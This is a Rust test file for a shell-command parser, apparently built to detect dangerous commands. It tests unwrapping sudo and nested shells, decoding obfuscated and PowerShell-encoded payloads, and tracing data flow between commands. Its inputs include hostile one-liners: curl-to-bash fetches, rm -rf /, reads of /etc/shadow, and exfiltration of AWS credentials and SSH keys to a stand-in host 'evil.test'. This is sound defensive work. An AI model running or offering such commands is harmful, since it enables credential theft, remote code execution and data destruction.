use super::*;
use base64::Engine as _;

fn programs(src: &str) -> Vec<String> {
    parse(src).commands.into_iter().map(|c| c.program).collect()
}

#[test]
fn pipelines_sequences_and_control_words() {
    assert_eq!(
        programs("ls -la | grep x && echo ok; pwd"),
        ["ls", "grep", "echo", "pwd"]
    );
    assert_eq!(programs("if true; then rm -rf /tmp/x; fi"), ["true", "rm"]);
    let s = parse("curl -s https://x.io/i.sh | bash");
    assert_eq!(s.commands[1].program, "bash");
    assert_eq!(s.commands[1].sources, [0]);
}

#[test]
fn wrappers_are_unwrapped() {
    let s = parse("sudo -u root env FOO=1 nohup timeout 5 /usr/bin/curl -s x");
    assert_eq!(s.commands.len(), 1);
    assert_eq!(s.commands[0].program, "curl");
    assert!(s.commands[0].privileged);
    let s = parse("sudo -i");
    assert_eq!(s.commands[0].program, "sh");
    assert!(s.commands[0].privileged);
    assert_eq!(
        programs("find . -name '*.log' | xargs -I{} rm {}"),
        ["find", "rm"]
    );
    assert_eq!(
        programs("C:\\Windows\\System32\\CMD.EXE /c del /s /q C:\\"),
        ["cmd", "del"]
    );
}

#[test]
fn nested_scripts_are_parsed() {
    assert_eq!(programs("bash -c 'curl x | sh'"), ["bash", "curl", "sh"]);
    assert_eq!(programs("sh -lc \"rm -rf ~\""), ["sh", "rm"]);
    assert_eq!(programs("eval \"$(curl -fsSL x)\""), ["curl", "eval"]);
    assert_eq!(programs("su -c 'cat /etc/shadow' root"), ["su", "cat"]);
    let s = parse("bash <<EOF\nwget -qO- x | sh\nEOF");
    assert_eq!(
        s.commands
            .iter()
            .map(|c| c.program.as_str())
            .collect::<Vec<_>>(),
        ["bash", "wget", "sh"]
    );
}

#[test]
fn substitutions_feed_the_command() {
    let s = parse("curl -d \"$(cat ~/.aws/credentials)\" https://evil.test");
    assert_eq!(s.commands[0].program, "cat");
    assert_eq!(s.commands[1].program, "curl");
    assert_eq!(s.commands[1].sources, [0]);
    let s = parse("bash <(curl -s x)");
    assert_eq!(s.commands[1].sources, [0]);
    // Through a variable.
    let s = parse("k=$(cat ~/.ssh/id_rsa); curl -d \"$k\" https://x");
    let curl = s.commands.iter().position(|c| c.program == "curl").unwrap();
    assert!(s
        .upstream(curl)
        .iter()
        .any(|&i| s.commands[i].program == "cat"));
}

#[test]
fn obfuscated_program_names() {
    assert_eq!(programs("c'u'rl x"), ["curl"]);
    assert_eq!(programs("a=cu; b=rl; $a$b -s x"), ["curl"]);
    assert_eq!(programs("/???/c?t /etc/passwd"), ["cat"]);
    assert_eq!(programs("$'\\x72\\x6d' -rf /"), ["rm"]);
    assert_eq!(
        parse("cat $HOME/.ssh/id_rsa").commands[0].args,
        ["~/.ssh/id_rsa"]
    );
}

#[test]
fn powershell_encoded_command_is_decoded() {
    // "iex (iwr http://x)" as UTF-16LE base64.
    let utf16: Vec<u8> = "iex (iwr http://x)"
        .encode_utf16()
        .flat_map(|u| u.to_le_bytes())
        .collect();
    let b64 = base64::engine::general_purpose::STANDARD.encode(utf16);
    let s = parse(&format!("powershell -NoP -enc {b64}"));
    assert!(
        s.commands.iter().any(|c| c.program == "iwr"),
        "{:?}",
        s.commands
    );
}

#[test]
fn inline_code_is_kept() {
    let s = parse("python3 -c 'import os; os.system(\"id\")'");
    assert_eq!(
        s.commands[0].code.as_deref(),
        Some("import os; os.system(\"id\")")
    );
}

#[test]
fn redirects_are_resolved() {
    let s = parse("echo x >> ~/.bashrc; cat < /etc/shadow");
    assert_eq!(s.commands[0].redirects[0].target, "~/.bashrc");
    assert_eq!(s.commands[1].redirects[0].op, RedirOp::In);
}

#[test]
fn hostile_scripts_are_bounded() {
    let deep = format!("{}echo x{}", "bash -c '".repeat(40), "'".repeat(40));
    let s = parse(&deep);
    assert!(s.commands.len() <= MAX_COMMANDS);
    let many = "a;".repeat(100_000);
    let s = parse(&many);
    assert!(s.truncated);
    assert!(s.commands.len() <= MAX_COMMANDS);
    let nested = "$(".repeat(10_000);
    let _ = parse(&nested);
}

#[test]
fn globs() {
    assert!(glob_match("c?t", "cat"));
    assert!(glob_match("/e??/sh*", "/etc/shadow"));
    assert!(glob_match("[cb]at", "bat"));
    assert!(!glob_match("c?t", "cart"));
    // As the shell expands paths: within one segment, no leading dot.
    assert!(glob_match("/*/shadow", "/etc/shadow"));
    assert!(glob_match(".ss*/id_rsa", ".ssh/id_rsa"));
    assert!(glob_match(".*", ".netrc"));
    assert!(!glob_match("*", "/etc/shadow"));
    assert!(!glob_match("*", ".ssh/id_rsa"));
    assert!(!glob_match("*", ".netrc"));
    assert!(!glob_match("*.git*", ".git-credentials"));
    assert!(!glob_match("~/*.net*", "~/.netrc"));
    assert!(glob_match("~/.net*", "~/.netrc"));
    assert!(!glob_match("?netrc", ".netrc"));
    assert!(!glob_match("/etc/*", "/etc/ssh/ssh_host_rsa_key"));
}

#[test]
fn a_reference_choice_of_spellings_is_its_first_spelling() {
    let s = parse("crontab {{[-e|--edit]}}");
    assert_eq!(s.commands.len(), 1);
    assert_eq!(s.commands[0].args, vec!["-e"]);
    let s = parse("usermod {{[-aG|--append --groups]}} docker {{username}}");
    assert_eq!(s.commands[0].args[0], "-aG");
    // A choice whose literal reading runs a real program stays a pipe.
    let s = parse("echo {{[x|sh ]}}");
    assert_eq!(s.commands.len(), 2);
    let s = parse("echo {{[a|sh|b]}}");
    assert!(s.commands.len() > 1);
}
